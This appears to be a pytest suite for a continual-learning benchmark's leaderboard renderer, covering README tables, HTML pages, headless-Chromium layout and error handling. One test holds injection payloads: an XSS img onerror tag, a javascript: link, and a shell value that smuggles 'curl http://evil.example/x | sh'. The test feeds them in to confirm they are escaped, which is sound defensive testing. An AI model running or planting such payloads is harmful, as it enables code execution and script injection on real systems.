"""``clbench leaderboard render``: README tables and a self-contained page that loads in headless Chromium."""

from __future__ import annotations

import html
import io
import math
import re
import shutil
import subprocess
from pathlib import Path
from types import SimpleNamespace

import pytest
from rich.console import Console

from clbench.cli.main import main
from clbench.leaderboard import entries as E
from clbench.leaderboard.execute import run_suite
from clbench.leaderboard.suite import load_suite

REPO = Path(__file__).resolve().parents[2]
COMMITTED = REPO / "leaderboard"


@pytest.fixture(scope="module")
def rendered(clean_smoke_board, tmp_path_factory):
    out = tmp_path_factory.mktemp("render") / "lb"
    shutil.copytree(clean_smoke_board, out)
    assert main(["leaderboard", "render", str(out)]) == 0
    return out


def _mean_interval(values: list[float]) -> str:
    """``mean ± half-width of the 95% t interval`` in percent, as the tables show a score."""
    from scipy.stats import t

    m = sum(values) / len(values)
    s = math.sqrt(sum((v - m) ** 2 for v in values) / (len(values) - 1))
    return f"{100 * m:.1f} ± {100 * t.ppf(0.975, len(values) - 1) * s / math.sqrt(len(values)):.1f}"


def _table_rows(readme: str, benchmark: str) -> list[list[str]]:
    section = readme.split(f"## {benchmark}\n", 1)[1].split("\n## ", 1)[0]
    lines = [line for line in section.splitlines() if line.startswith("|")]
    header = [c.strip() for c in lines[0].strip("|").split("|")]
    return [dict(zip(header, (c.strip() for c in line.strip("|").split("|")))) for line in lines[2:]]


def test_readme_has_one_row_per_strategy_with_mean_and_interval(rendered):
    readme = (rendered / "README.md").read_text()
    rows = _table_rows(readme, "digits-domains")
    entries = [e.document for e in E.load_entries(rendered)]
    assert sorted(r["Strategy"] for r in rows) == ["joint", "naive"]
    for row in rows:
        mine = [e for e in entries if e["strategy"]["name"] == row["Strategy"]]
        assert row["Runs"] == "2"
        assert row["ACC"] == _mean_interval([e["scores"]["acc"] for e in mine])
        if row["Strategy"] == "naive":
            assert row["BWT"] == _mean_interval([e["scores"]["bwt"] for e in mine])
        else:
            assert row["BWT"] == "—"  # joint has no stages to forget between
    accs = {r["Strategy"]: float(r["ACC"].split(" ± ")[0]) for r in rows}
    ranks = {r["Strategy"]: int(r["Rank"]) for r in rows}
    assert ranks[max(accs, key=accs.get)] == 1 and ranks[min(accs, key=accs.get)] == 2
    assert "clbench leaderboard run --suite" in readme and "index.html" in readme


def test_header_names_the_cpu_the_numbers_were_made_on(rendered):
    from clbench.results.assemble import cpu_identity

    cpu = cpu_identity()
    assert f" · device cpu ({cpu['model']}, {cpu['isa']}) · " in (rendered / "README.md").read_text()


def _run_pages(root: Path, page: str) -> dict[str, str]:
    """Each table row's page, by strategy, as linked from the row of ``page``."""
    links = re.findall(r'<tr data-strategy="([^"]+)">.*?<a href="(pages/[^"]+\.html)"', page, re.S)
    return {strategy: (root / href).read_text() for strategy, href in links}


def test_page_is_self_contained_and_links_each_row_to_its_runs_heatmaps(rendered):
    page = (rendered / "index.html").read_text()
    runs = _run_pages(rendered, page)
    assert sorted(runs) == ["joint", "naive"] and len(list((rendered / "pages").iterdir())) == 2
    for text in (page, *runs.values()):
        assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", text)
        assert "Content-Security-Policy" in text and "default-src 'none'" in text
    # the page itself holds no heatmap, only the per-order chart and the critical-difference diagram; each run's R
    # matrix is on its row's page
    assert '<figure class="heatmap"' not in page and page.count("data:image/png;base64,") == 2
    assert page.count('<img class="orders"') == 1
    entries = [e.document for e in E.load_entries(rendered)]
    for e in entries:
        mine = runs[e["strategy"]["name"]]
        # one figure per run holding its R as tables, one shown at a time: in the stream's order and in the run's,
        # switched by a pair of radio buttons; the mean over the two orders; curves for a multi-stage run, as SVG
        assert mine.count('<figure class="heatmap"') == 2 and f'data-hash="{e["config_hash"]}"' in mine
        assert mine.count('<figure class="heatmap-mean"') == 1 and '<figure class="heatmap-fixed"' not in mine
        assert mine.count('<table class="rmatrix" data-order="stream">') == 2
        assert mine.count('<table class="rmatrix" data-order="run">') == 2
        assert mine.count('type="radio" name="order"') == 2 and 'id="order-stream" checked' in mine
        assert "mean over 2 orders (2 runs, each order's averaged first)" in html.unescape(mine) and "(rot0, rot90)" in mine
        assert mine.count('<figure class="curves"') == (0 if e["strategy"]["name"] == "joint" else 2)
        assert mine.count('<svg class="plot"') == mine.count('<figure class="curves"')
        assert "data:image/png" not in mine  # no PNG drawn for a short stream without MoE layers
        assert 'href="../index.html#digits-domains"' in mine
        # the final per-class recall behind G-mean, one table per run, in percent, zeros marked
        table = re.search(rf'<table class="recall" data-hash="{e["config_hash"]}">(.*?)</table>', mine, re.S).group(1)
        first = re.findall(r"<td(?: class=\"zero\")?>([^<]*)</td>", table.split("</tr>")[1])
        recall = e["recall_final"]["columns"][0]
        assert first[:-1] == ["·" if v is None else f"{100 * v:.0f}" for v in recall]
        assert table.count('class="zero"') == sum(v == 0 for row in e["recall_final"]["columns"] +
                                                  [e["recall_final"]["global"] or []] for v in row if v is not None)


def _rmatrix(page: str, config_hash: str, order: str) -> tuple[list[str], list[str], list[list[str]], list[str]]:
    """A run's R table on its page: the columns, the rows' labels, the cells' text and their styles."""
    figure = re.search(rf'<figure class="heatmap" data-hash="{config_hash}">(.*?)</figure>', page, re.S).group(1)
    table = re.search(rf'<table class="rmatrix" data-order="{order}">(.*?)</table>', figure, re.S).group(1)
    head, body = table.split("</thead>")
    columns = [html.unescape(c) for c in re.findall(r'<th scope="col">([^<]*)</th>', head)]
    lines = re.findall(r"<tr>(.*?)</tr>", body, re.S)
    rows = [html.unescape(re.search(r'<th scope="row">([^<]*)</th>', line).group(1)) for line in lines]
    cells = [re.findall(r"<td[^>]*>([^<]*)</td>", line) for line in lines]
    styles = re.findall(r'<td style="([^"]*)"', body)
    return columns, rows, cells, styles


def test_run_pages_hold_each_r_matrix_as_a_table_of_its_values_in_both_orders(rendered):
    from clbench.results.fixed_order import canonical_names, fixed_order

    page = (rendered / "index.html").read_text()
    runs = _run_pages(rendered, page)
    entries = [e.document for e in E.load_entries(rendered)]
    names = canonical_names(entries)
    for e in entries:
        mine = runs[e["strategy"]["name"]]
        columns, rows, cells, styles = _rmatrix(mine, e["config_hash"], "run")
        assert columns == e["experiences"]
        r = ([e["r_init"]] if e.get("r_init") is not None else []) + e["r_matrix"]
        assert len(rows) == len(r) and rows[0] == ("untrained" if e.get("r_init") is not None else rows[0])
        assert cells == [["" if v is None or v != v else f"{100 * v:.0f}" for v in line] for line in r]
        assert len(styles) == sum(v is not None and v == v for line in r for v in line)  # a coloured cell per value
        assert all(re.fullmatch(r"background:#[0-9a-f]{6};color:(black|white)", s) for s in styles)
        columns, rows, cells, _ = _rmatrix(mine, e["config_hash"], "stream")
        fixed, labels = fixed_order(e, names)
        assert columns == names and rows == labels
        assert cells == [[f"{100 * v:.0f}" for v in line] for line in fixed]


def test_render_is_deterministic(rendered, tmp_path):
    copy = tmp_path / "again"
    shutil.copytree(rendered, copy)
    assert main(["leaderboard", "render", str(copy)]) == 0
    pages = sorted(p.relative_to(rendered) for p in (rendered / "pages").iterdir())
    assert pages == sorted(p.relative_to(copy) for p in (copy / "pages").iterdir())
    for name in ("index.html", "README.md", *pages):  # identical but for the directory named in "Regenerate:"
        assert (copy / name).read_text() == (rendered / name).read_text().replace(str(rendered), str(copy))


def test_render_without_entries_is_a_user_error(tmp_path, capsys):
    (tmp_path / "entries").mkdir()
    assert main(["leaderboard", "render", str(tmp_path)]) == 2
    assert "no entries" in capsys.readouterr().err


@pytest.mark.skipif(not (COMMITTED / "entries").is_dir(), reason="no committed leaderboard/")
def test_committed_readme_is_up_to_date(tmp_path):
    copy = tmp_path / "leaderboard"
    shutil.copytree(COMMITTED / "entries", copy / "entries")
    if (COMMITTED / "suite.json").exists():
        shutil.copy(COMMITTED / "suite.json", copy / "suite.json")
    from clbench.leaderboard.manifest import manifest_hashes, read_manifest
    from clbench.leaderboard.render import _provenance, render_readme
    from clbench.leaderboard.table import build_tables

    hashes = manifest_hashes(copy)  # README.md only: what render writes there, without drawing the run pages
    entries = E.load_entries(copy, hashes)
    readme = render_readme(build_tables(entries, hashes, source="leaderboard"), entries,
                           _provenance(entries, copy, read_manifest(copy)), "leaderboard")
    expected = (COMMITTED / "README.md").read_text()
    assert readme == expected, \
        "leaderboard/README.md is stale: run 'clbench leaderboard render leaderboard'"


# -- headless Chromium -------------------------------------------------------------------------
def _chromium() -> str | None:
    for name in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable"):
        found = shutil.which(name)
        if found:
            return found
    return "/usr/bin/chromium" if Path("/usr/bin/chromium").exists() else None


CHROMIUM = _chromium()
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium binary on PATH (install Debian's "
                                                             "'chromium' package; .ci/run does)")


def _chromium_run(tmp_path: Path, url: str, *extra: str) -> subprocess.CompletedProcess:
    profile = tmp_path / f"profile-{len(list(tmp_path.glob('profile-*')))}"
    return subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                           "--disable-extensions", "--hide-scrollbars", f"--user-data-dir={profile}",
                           "--enable-logging=stderr", "--v=0", *extra, url],
                          capture_output=True, text=True, timeout=120)


def _console_messages(stderr: str) -> list[str]:
    """Chromium logs every page console message (errors, CSP violations, uncaught exceptions) as CONSOLE."""
    return [line for line in stderr.splitlines() if ":CONSOLE" in line or "Uncaught" in line]


@needs_chromium
def test_page_loads_in_headless_chromium_without_console_errors(rendered, tmp_path):
    from PIL import Image

    shot = tmp_path / "page.png"
    url = (rendered / "index.html").resolve().as_uri()
    proc = _chromium_run(tmp_path, url, f"--screenshot={shot}", "--window-size=1280,1600")
    assert shot.is_file(), proc.stderr[-3000:]
    assert _console_messages(proc.stderr) == []
    image = Image.open(shot).convert("RGB")
    assert image.size == (1280, 1600)
    colours = image.getcolors(maxcolors=1 << 20)
    assert colours is not None and len(colours) > 50  # text, table rules and heatmaps, not a blank page

    dom = _chromium_run(tmp_path, url, "--dump-dom")
    assert _console_messages(dom.stderr) == []
    assert 'data-ready="1"' in dom.stdout  # the inline script ran to its end
    assert 'data-sortable-ready="1"' in dom.stdout
    assert dom.stdout.count('<img class="groups"') == 1  # the benchmark's critical-difference diagram
    assert '<td class="text group" data-value="a">a</td>' in dom.stdout
    run_page = next((rendered / "pages").glob("*naive*.html")).resolve().as_uri()
    dom = _chromium_run(tmp_path, run_page, "--dump-dom")
    assert _console_messages(dom.stderr) == []
    assert dom.stdout.count('<figure class="heatmap"') == 2 and dom.stdout.count('<table class="rmatrix"') == 5
    assert dom.stdout.count('<figure class="curves"') == 2 and dom.stdout.count('<svg class="plot"') == 2
    shot = tmp_path / "run-page.png"
    proc = _chromium_run(tmp_path, run_page, f"--screenshot={shot}", "--window-size=1280,1600")
    assert shot.is_file(), proc.stderr[-3000:]
    assert _console_messages(proc.stderr) == []


# Added to a copy of a page: the page-coordinate box of every visible element a selector matches.
BOXES = """<script>
window.addEventListener("load", function () {
  var out = {};
  SELECTORS.forEach(function (sel) {
    out[sel] = [];
    document.querySelectorAll(sel).forEach(function (el) {
      var b = el.getBoundingClientRect();
      if (b.width > 0 && b.height > 0) {
        out[sel].push([b.left + window.scrollX, b.top + window.scrollY, b.right + window.scrollX,
                       b.bottom + window.scrollY]);
      }
    });
  });
  var pre = document.createElement("pre");
  pre.id = "boxes";
  pre.style.display = "none";
  pre.textContent = JSON.stringify(out);
  document.body.appendChild(pre);
});
</script>"""
WINDOW = (1280, 4000)  # tall enough that the screenshot holds each small page whole


def _seen(tmp_path: Path, page: Path, selectors: list[str]) -> tuple[dict[str, list[list[float]]], object]:
    """Lay out a copy of ``page`` in headless Chromium: each selector's visible boxes, and the screenshot."""
    import json

    from PIL import Image

    copy = page.with_name(f"seen-{page.name}")
    script = BOXES.replace("SELECTORS", json.dumps(selectors))
    copy.write_text(page.read_text().replace("</body>", script + "</body>"))
    size = f"--window-size={WINDOW[0]},{WINDOW[1]}"
    try:
        dom = _chromium_run(tmp_path, copy.resolve().as_uri(), size, "--force-device-scale-factor=1", "--dump-dom")
        shot = tmp_path / f"{page.stem}.png"
        proc = _chromium_run(tmp_path, copy.resolve().as_uri(), size, "--force-device-scale-factor=1",
                             f"--screenshot={shot}")
    finally:
        copy.unlink()
    assert _console_messages(dom.stderr) == [] and _console_messages(proc.stderr) == []
    found = re.search(r'<pre id="boxes"[^>]*>(.*?)</pre>', dom.stdout, re.S)
    assert found and shot.is_file(), (dom.stderr + proc.stderr)[-3000:]
    return json.loads(html.unescape(found.group(1))), Image.open(shot).convert("RGB")


def _check_seen(boxes: dict[str, list[list[float]]], image, counts: dict[str, int]) -> None:
    """Each selector shows ``counts`` boxes, inside the window, none overlapping another, and the
    screenshot is not blank where each one is (the reader sees ink there, not the page's background)."""
    assert {sel: len(found) for sel, found in boxes.items()} == counts
    placed = [(sel, box) for sel, found in boxes.items() for box in found]
    for sel, (left, top, right, bottom) in placed:
        assert left >= 0 and right <= WINDOW[0] and bottom <= WINDOW[1], (sel, left, right, bottom)
        crop = image.crop((int(left), int(top), int(right), int(bottom)))
        background = image.getpixel((2, 2))
        ink = sum(n for n, colour in crop.getcolors(maxcolors=1 << 20) if colour != background)
        assert ink > 0.01 * crop.width * crop.height, f"{sel} at {(left, top)} is blank in the screenshot"
    for i, (a, box_a) in enumerate(placed):
        for b, box_b in placed[i + 1:]:
            width = min(box_a[2], box_b[2]) - max(box_a[0], box_b[0])
            height = min(box_a[3], box_b[3]) - max(box_a[1], box_b[1])
            assert width <= 0 or height <= 0, f"{a} {box_a} overlaps {b} {box_b}"


@needs_chromium
def test_a_reader_sees_tables_diagrams_heatmaps_and_curves_each_in_its_own_place(rendered, tmp_path):
    """What the screenshots show, not only that they exist: on the index page the table, the
    critical-difference diagram and the per-order chart; on a run page the mean R matrix, each
    run's (one view of each: the other order is switched off) and the curves. Each is visible,
    inside the window, clear of the others, and drawn (not blank)."""
    boxes, image = _seen(tmp_path, rendered / "index.html", ["table.sortable", "img.groups", "img.orders"])
    _check_seen(boxes, image, {"table.sortable": 1, "img.groups": 1, "img.orders": 1})
    run_page = next((rendered / "pages").glob("*naive*.html"))
    runs = run_page.read_text().count('<figure class="heatmap"')
    figures = ["figure.heatmap-mean", "figure.heatmap", "figure.curves"]
    boxes, image = _seen(tmp_path, run_page, [*figures, "table.rmatrix"])
    assert runs == 2 and len(boxes.pop("table.rmatrix")) == 1 + runs  # one view of each matrix, not both orders
    _check_seen(boxes, image, {"figure.heatmap-mean": 1, "figure.heatmap": runs, "figure.curves": runs})


# Added to a copy of a page: where each table and its last header cell lie once laid out.
GEOMETRY = """<script>
window.addEventListener("load", function () {
  var out = {width: window.innerWidth, height: window.innerHeight,
             scrollWidth: document.documentElement.scrollWidth, tables: []};
  document.querySelectorAll("table.sortable").forEach(function (t) {
    var box = t.getBoundingClientRect(), heads = t.tHead.rows[0].cells, last = heads[heads.length - 1];
    out.tables.push({top: box.top, bottom: box.bottom, right: box.right, lastRight: last.getBoundingClientRect().right,
                     lastText: last.textContent, clipped: t.parentNode.scrollWidth > t.parentNode.clientWidth});
  });
  var pre = document.createElement("pre");
  pre.id = "geometry";
  pre.textContent = JSON.stringify(out);
  document.body.appendChild(pre);
});
</script>"""


@needs_chromium
@pytest.mark.skipif(not (COMMITTED / "entries").is_dir(), reason="no committed leaderboard/")
def test_quickstart_page_is_small_and_its_tables_fit_a_1400px_window(tmp_path):
    """The committed quickstart leaderboard's page, before any run page is opened, is under 300 KB,
    and at 1400 x 900 px every column of every table is in view and the first table on the first screen."""
    import json

    from clbench.leaderboard.manifest import manifest_hashes, read_manifest
    from clbench.leaderboard.render import _provenance, render_html
    from clbench.leaderboard.table import build_tables

    copy = tmp_path / "leaderboard"
    shutil.copytree(COMMITTED, copy)
    hashes = manifest_hashes(copy)
    entries = E.load_entries(copy, hashes)
    tables = build_tables(entries, hashes)
    page = render_html(tables, entries, _provenance(entries, copy, read_manifest(copy)), "leaderboard")
    assert len(page.encode()) < 300_000
    assert len(tables) == 2 and all(len(t.scores) >= 7 for t in tables)
    (copy / "index.html").write_text(page.replace("</body>", GEOMETRY + "</body>"))
    dom = _chromium_run(tmp_path, (copy / "index.html").resolve().as_uri(), "--window-size=1400,900", "--dump-dom")
    assert _console_messages(dom.stderr) == []
    found = re.search(r'<pre id="geometry">(.*?)</pre>', dom.stdout, re.S)
    assert found, dom.stderr[-2000:]
    geometry = json.loads(html.unescape(found.group(1)))
    assert geometry["width"] == 1400 and geometry["scrollWidth"] <= 1400  # nothing to scroll sideways
    for table in geometry["tables"]:
        assert table["lastText"] == "Wall s" and not table["clipped"]
        assert table["right"] <= 1400 and table["lastRight"] <= 1400
    assert geometry["tables"][0]["bottom"] <= geometry["height"]  # the first screen holds the first table


@needs_chromium
def test_sortable_table_sorts_in_the_browser(rendered, tmp_path):
    entries = [e.document for e in E.load_entries(rendered)]
    acc = {s: sum(e["scores"]["acc"] for e in entries if e["strategy"]["name"] == s) / 2 for s in ("naive", "joint")}
    low, high = sorted(acc, key=acc.get)
    base = (rendered / "index.html").resolve().as_uri()
    for direction, first in (("asc", low), ("desc", high)):
        dom = _chromium_run(tmp_path, f"{base}?sort=acc&dir={direction}", "--dump-dom")
        assert _console_messages(dom.stderr) == []
        order = re.findall(r'<tr data-strategy="([^"]+)"', dom.stdout)
        assert order[0] == first, (direction, order)
        assert re.search(rf'data-key="acc"[^>]*aria-sort="{"ascending" if direction == "asc" else "descending"}"',
                         dom.stdout)


def test_moe_runs_show_n_eff_and_utilization_heatmaps(tmp_path, write_yaml):
    """An MoE model's entries carry N_eff (a plain number in the tables) and the page draws
    each run's per-domain expert utilization."""
    suite = write_yaml({
        "name": "moe-render", "benchmarks": [{"class_path": "digits-domains", "init_args": {"domains": ["rot0", "rot90"]}}],
        "models": [{"class_path": "vit_moe", "init_args": {"label": "MoE", "patch_size": 4, "embed_dim": 16, "depth": 2,
                                                           "num_heads": 2, "mlp_ratio": 2.0, "moe_blocks": [1],
                                                           "num_experts": 3}}],
        "strategies": ["naive"], "orders": ["default", "reverse"], "seeds": [0], "threads": 1,
        "base": {"train": {"epochs": 1, "batch_size": 64}, "logging": {"tensorboard": False}}})
    out = tmp_path / "lb"
    run_suite(load_suite(suite), out, progress=False, console=Console(file=io.StringIO()))
    assert main(["leaderboard", "render", str(out)]) == 0
    entries = E.load_entries(out)
    assert len(entries) == 2 and all(e.scores["n_eff"] >= 1.0 for e in entries)
    row = _table_rows((out / "README.md").read_text(), "digits-domains")[0]
    values = [e.scores["n_eff"] for e in entries]
    mean = sum(values) / len(values)
    std = math.sqrt(sum((v - mean) ** 2 for v in values))
    half = 12.706204736174705 * std / math.sqrt(2)  # the 95% t interval of 2 runs (t_{0.975, 1})
    assert row["N_eff"] == f"{mean:.2f} ± {half:.2f}"  # not a percentage
    page = (out / "index.html").read_text()
    assert "N_eff (MoE methods)" in page
    (run_page,) = _run_pages(out, page).values()
    assert run_page.count('<figure class="routing"') == 2


def test_header_says_which_scoring_made_a_text_benchmarks_numbers():
    from clbench.leaderboard.notes import meta_line
    from clbench.leaderboard.schema import ObjectiveRecord
    from clbench.leaderboard.table import scoring

    assert scoring(ObjectiveRecord(name="CausalLanguageModeling", scoring="trace")) == "trace"
    assert scoring(ObjectiveRecord(name="CausalLanguageModeling")) == "normalized"  # recorded before scorings
    assert scoring(ObjectiveRecord(name="Classification")) is None
    meta = {"scenario_type": "domain-il", "experiences": ["FOMC"], "num_classes": None, "orders": ["standard"],
            "seeds": [0], "models": ["hf_causal_lm"], "r_names": ["trace_exact_match"], "r_higher": True}
    assert meta_line({**meta, "scorings": ["trace"]}).endswith(
        "· scoring: trace (TRACE's own evaluation scripts; papers' numbers compare only on TRACE's own data)")
    assert meta_line({**meta, "scorings": ["trace"], "synthetic": True}).startswith("synthetic data (generated")
    assert "scoring: normalized (lenient" in meta_line({**meta, "scorings": ["normalized"]})
    assert "scoring" not in meta_line({**meta, "scorings": []})


def test_an_order_given_as_names_is_spelled_out_under_its_hashed_label(tmp_path):
    """A suite's order written as a list of experience names is labelled custom:<hash> in entries and
    tables; the README's line above each table spells it out, so a reader knows which order it was."""
    from clbench.config.load import order_label
    from helpers import smoke, write_suite

    suite = load_suite(write_suite(tmp_path, smoke(strategies=["naive"], orders=["default", ["rot90", "rot0"]])))
    out = tmp_path / "lb"
    run_suite(suite, out, console=Console(file=io.StringIO()))
    assert main(["leaderboard", "render", str(out)]) == 0
    label = order_label(["rot90", "rot0"])
    line = next(line for line in (out / "README.md").read_text(encoding="utf-8").splitlines() if "orders: " in line)
    assert f"orders: default, {label} (rot90 > rot0) ·" in line  # the named order is not spelled


def test_acc_is_labelled_op_on_trace_streams():
    """On a text stream whose tasks have metrics of their own, R's final mean is TRACE's OP (a mean
    over each task's own metric), not an accuracy, and the tables say so and how it was scored."""
    from clbench.leaderboard.notes import trace_note
    from clbench.leaderboard.table import BenchmarkTable

    def table(scorings, names=("exact_match", "rouge_l", "sari")):
        return BenchmarkTable(key="k", name="trace", label="trace", scores=["acc", "bwt"], rows=[],
                              higher={"acc": True, "bwt": True}, r_names=list(names), scorings=scorings)

    assert table(["trace"]).title("acc") == "OP (TRACE)" and table(["trace"]).title("bwt") == "BWT"
    assert table(["trace"]).ranked_by() == "ranked by OP (TRACE)"
    assert "rouge_l" in trace_note(table(["trace"])) and "TRACE's own scripts" in trace_note(table(["trace"]))
    for lenient in (["normalized"], ["mixed"], ["normalized", "trace"]):
        assert table(lenient).title("acc") == "OP" and "not comparable" in trace_note(table(lenient))
    for plain in (table([]), table(["trace"], names=["exact_match"] * 3), table([], names=[])):
        assert plain.title("acc") == "ACC" and trace_note(plain) is None


def test_a_gmean_of_zero_is_explained_under_the_table():
    from clbench.leaderboard.notes import gmean_note
    from clbench.leaderboard.table import BenchmarkTable, Row

    def run(gmean, global_gmean):  # the fields of an ok entry the note reads
        return SimpleNamespace(ok=True, status="ok",
                               scores={"acc": 0.5, "gmean_final": gmean, "global_gmean": global_gmean})

    def table(*runs):
        row = Row(key="r", label="naive", strategy="naive", model="mlp", entries=list(runs))
        return BenchmarkTable(key="k", name="b", label="b", scores=["acc", "gmean_final", "global_gmean"], rows=[row])

    assert gmean_note(table(run(0.4, 0.5), run(0.3, 0.2))) is None
    note = gmean_note(table(run(0.0, 0.0), run(0.3, 0.0), run(0.3, 0.2)), page=True)
    assert "G-mean is 0 on some test set in 2 of 3 runs here" in note and "per-class recall" in note


SPLIT_BOARD = REPO / "leaderboards" / "fashion-mnist-split"


@pytest.mark.skipif(not (SPLIT_BOARD / "entries").is_dir(), reason="no committed board")
def test_fwt_in_class_il_is_withheld_only_where_the_runs_make_it_constant():
    """On Split Fashion-MNIST class-IL the shared head scores next to nothing on classes it has
    not trained (ER-ACE, whose loss leaves unseen classes' logits alone, scores one test image of
    2,000 in some runs; the others exactly 0), far less than FWT's test-set noise, so FWT is
    −mean(r_init) for every method: the column shows —, with its reason. Task-IL keeps it; and one
    class-IL run that scores an experience well before training it brings the column back."""
    import copy

    from helpers import typed_entries

    from clbench.leaderboard.notes import constant_note, readme_notes
    from clbench.leaderboard.table import build_tables, unseen_scores

    entries = E.load_entries(SPLIT_BOARD)
    class_il, task_il = sorted(build_tables(entries), key=lambda t: "task-il" in t.label)
    assert "task-il" not in class_il.label and "task-il" in task_il.label
    assert class_il.constant == ["fwt"] and "fwt" in class_il.scores
    assert not any("fwt" in row.stats for row in class_il.rows) and all("bwt" in r.stats for r in class_il.rows
                                                                         if r.strategy != "joint")
    early = [max(unseen_scores(e)) for e in entries if e.ok and not e.single_stage and e.benchmark.init_args.get(
        "scenario", "class-il") == "class-il"]
    assert 0 < max(early) < 0.001 and early.count(0.0) > len(early) / 2  # a test image here and there
    assert "−mean(r_init)" in constant_note(class_il) and constant_note(class_il) in readme_notes(class_il)[1]
    assert "0.05%" in constant_note(class_il)
    assert task_il.constant == [] and constant_note(task_il) is None and any("fwt" in r.stats for r in task_il.rows)
    changed = copy.deepcopy([e.document for e in entries])
    run = next(e for e in changed if e["benchmark"]["scenario_type"] == "class-il" and not e["single_stage"])
    run["r_matrix"][0][1] = 0.3  # 30% of an experience's images right before it trained: a transfer
    class_il = next(t for t in build_tables(typed_entries(changed)) if "task-il" not in t.label)
    assert class_il.constant == [] and any("fwt" in row.stats for row in class_il.rows)


def _read_only_bind(folder: Path) -> bool:
    """``folder`` remounted read-only onto itself (root with mount rights only)."""
    try:
        if subprocess.run(["mount", "--bind", str(folder), str(folder)], capture_output=True, timeout=30).returncode:
            return False
        if subprocess.run(["mount", "-o", "remount,bind,ro", str(folder), str(folder)], capture_output=True,
                          timeout=30).returncode:
            subprocess.run(["umount", str(folder)], capture_output=True, timeout=30)
            return False
    except (OSError, subprocess.SubprocessError):
        return False
    return True


@pytest.mark.parametrize("disk", ["mount", "simulated"])
@pytest.mark.skipif(not (COMMITTED / "entries").is_dir(), reason="no committed leaderboard/")
def test_render_into_a_read_only_folder_is_one_line_naming_the_file(tmp_path, capsys, monkeypatch, disk):
    import errno
    import os

    from clbench import io as clbench_io

    board = tmp_path / "board"
    shutil.copytree(COMMITTED / "entries", board / "entries")
    shutil.copy(COMMITTED / "suite.json", board / "suite.json")
    if disk == "mount":
        if not _read_only_bind(board):
            pytest.skip("cannot mount a read-only folder here (needs root with mount rights)")
    else:
        def read_only(*args, **kwargs):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(board))

        monkeypatch.setattr(clbench_io.tempfile, "mkstemp", read_only)
    before = {p: p.read_bytes() for p in board.rglob("*") if p.is_file()}
    try:
        assert main(["leaderboard", "render", str(board)]) == 2
        lines = capsys.readouterr().err.splitlines()
        assert lines == [f"clbench: error: cannot write {board / 'README.md'}: Read-only file system (the filesystem "
                         "is mounted read-only: remount it writable or choose another folder)"]
        assert {p: p.read_bytes() for p in board.rglob("*") if p.is_file()} == before
    finally:
        if disk == "mount":
            subprocess.run(["umount", str(board)], capture_output=True, timeout=30)


def test_render_of_a_file_says_it_is_not_a_folder(tmp_path, capsys):
    path = tmp_path / "results.json"
    path.write_text("{}")
    assert main(["leaderboard", "render", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.splitlines() == [f"clbench: error: {path}: {path} is a file, not a leaderboard folder "
                                "(give the folder 'clbench leaderboard run --output DIR' wrote)"]


def test_utilization_rows_of_a_task_subset_are_named_by_domain_id():
    """A stream over 3 of trace-mini's 8 tasks keeps each task's own domain id: the utilization
    has 8 rows, 5 of them empty. The figure shows the 3 that hold units, labelled by id."""
    from clbench.results.plots import utilization_figure

    empty, used = [None, None], [0.25, 0.75]
    rows = [empty, empty, used, used, empty, empty, empty, used]
    result = {"experiences": ["MeetingBank", "Py150", "20Minuten"],
              "expert_utilization": [{"layer.0": {"utilization": rows}}]}
    fig = utilization_figure(result, ["layer.0"])
    labels = [t.get_text() for t in fig.axes[0].get_yticklabels()]
    assert labels == ["domain 2", "domain 3", "domain 7"]
    assert fig.axes[0].images[0].get_array().shape == (3, 2)


@pytest.mark.parametrize("name", ["pages", "entries", "runs"])
def test_render_refuses_a_folder_that_is_a_link_out_of_the_leaderboard(rendered, tmp_path, capsys, name):
    out = tmp_path / "lb"
    shutil.copytree(rendered, out)
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(out / name, elsewhere) if (out / name).is_dir() else elsewhere.mkdir()
    (elsewhere / "keep.html").write_text("<p>someone else's page</p>")
    if (out / name).exists():
        shutil.rmtree(out / name)
    (out / name).symlink_to(elsewhere, target_is_directory=True)
    before = (out / "README.md").read_text()
    assert main(["leaderboard", "render", str(out)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"clbench: error: {out / name}: {name} is a symbolic link (to {elsewhere})") and "\n" not in err
    assert (elsewhere / "keep.html").read_text() == "<p>someone else's page</p>"
    assert (out / "README.md").read_text() == before  # nothing written


IMG = "<img src=x onerror=alert(1)>"
LINK = "[a](javascript:alert(1))"
SHELL = "x.yaml; curl http://evil.example/x | sh #"


def test_what_render_takes_from_files_is_quoted_and_escaped(rendered, tmp_path):
    """suite.json and entries are files anyone may have written: their text is shown, never read as
    Markdown, HTML or shell (a source path run by 'Regenerate:', an <img onerror>, a javascript: link,
    a line that would start a heading)."""
    import json
    import shlex

    from markdown_it import MarkdownIt

    out = tmp_path / "lb"
    shutil.copytree(rendered, out)
    manifest = json.loads((out / "suite.json").read_text())
    some = E.load_entries(out)[0].document
    cfg = {**some["config"], "strategy": {"class_path": LINK, "init_args": {}}}
    failed = E.failed_entry(cfg, f"boom {IMG}", env=some["env"], wall_seconds=1.0, suite=manifest["name"])
    E.write_entry(out, failed)
    manifest.update(name=f"smoke`{IMG}", description=f"two domains {IMG} {LINK}\n# heading", source=SHELL)
    manifest["runs"].append({"hash": failed["config_hash"]})
    (out / "suite.json").write_text(json.dumps(manifest))
    assert main(["leaderboard", "render", str(out)]) == 0
    readme, page = (out / "README.md").read_text(), (out / "index.html").read_text()
    regenerate = f"clbench leaderboard run --suite {shlex.quote(SHELL)} --output {shlex.quote(str(out))}"
    assert regenerate in readme and regenerate in html.unescape(page)
    shown = MarkdownIt("commonmark", {"html": True}).enable("table").render(readme)  # as a Markdown viewer shows it
    assert "<img" not in shown and "javascript:" not in shown.replace("(javascript:alert(1))", "")
    assert shown.count("<a href") == 1 and '<a href="index.html">' in shown  # the template's own link only
    assert "<h1>heading" not in shown and f"<code>smoke`{html.escape(IMG, quote=False)}</code>" in shown
    assert html.escape(IMG, quote=False) in shown and "[a](javascript:alert(1))" in html.unescape(shown)
    assert "\n# heading" not in readme
    assert IMG not in page and html.escape(IMG) in page and 'href="javascript' not in page


def test_render_and_compare_name_the_entries_their_suite_leaves_out(rendered, tmp_path, capsys):
    """A valid entry of another suite copied into entries/ is not in suite.json's grid: it stays out of
    the tables, and both commands say so, naming the file and why."""
